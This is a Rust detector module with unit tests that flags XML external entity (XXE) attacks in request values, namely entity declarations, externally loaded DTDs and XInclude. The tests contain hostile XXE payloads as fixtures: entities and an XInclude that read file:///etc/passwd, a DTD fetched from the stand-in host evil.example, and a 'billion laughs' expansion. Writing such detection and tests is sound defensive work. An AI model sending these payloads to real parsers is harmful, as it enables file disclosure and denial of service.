//! XML external entities (CWE-611): a document type that declares entities or loads an
//! external DTD, and XInclude, in any value or an XML body.
//!
//! - `<!ENTITY` declares an entity: real requests carry none; an attacker's makes the parser
//!   read a file or a URL (`SYSTEM "file:///etc/passwd"`), or expand exponentially (the
//!   "billion laughs").
//! - `<!DOCTYPE x SYSTEM "...">` fetches a DTD the attacker names (out-of-band XXE). A
//!   public identifier of the W3C (`PUBLIC "-//W3C//DTD XHTML 1.0..."`, pasted HTML) is
//!   kept clean.
//! - `xi:include` (XInclude, W3C 2006) pulls a file into the document.

use super::{Match, shape::find_ignore_case};

/// Checks one decoded value.
pub fn check(value: &str) -> Option<Match> {
    let b = value.as_bytes();
    if let Some(p) = find_ignore_case(b, b"<!entity") {
        return Some(Match::new("xxe:entity", value, p, p + 40));
    }
    if let Some(p) = find_ignore_case(b, b"<!doctype") {
        let decl = &b[p..];
        let decl = &decl[..decl.iter().position(|&c| c == b'>').unwrap_or(decl.len())];
        let external = find_ignore_case(decl, b" system").is_some()
            || find_ignore_case(decl, b" public").is_some()
                && find_ignore_case(decl, b"//w3c//").is_none();
        if external || decl.contains(&b'[') {
            return Some(Match::new("xxe:doctype", value, p, p + decl.len()));
        }
    }
    if let Some(p) = find_ignore_case(b, b"xi:include")
        && b[p..].contains(&b'=')
    {
        return Some(Match::new("xxe:xinclude", value, p, p + 10));
    }
    None
}


#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn entity_declarations_and_external_dtds_match() {
        for a in [
            "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
            "<!DOCTYPE foo [<!ENTITY % xxe SYSTEM \"http://evil.example/x.dtd\"> %xxe;]>",
            "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;\">]>",
            "<!DOCTYPE foo SYSTEM \"http://evil.example/evil.dtd\">",
            "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
            "<!doctype x [ <!element x any> ]>",
        ] {
            assert!(check(a).is_some(), "{a}");
        }
    }

    #[test]
    fn html_and_plain_xml_do_not() {
        for b in [
            "<!DOCTYPE html><html><body>hi</body></html>",
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
            "<?xml version=\"1.0\"?><order><id>5</id></order>",
            "an entity is a thing; the doctype names the root",
        ] {
            assert_eq!(check(b), None, "{b}");
        }
    }
}
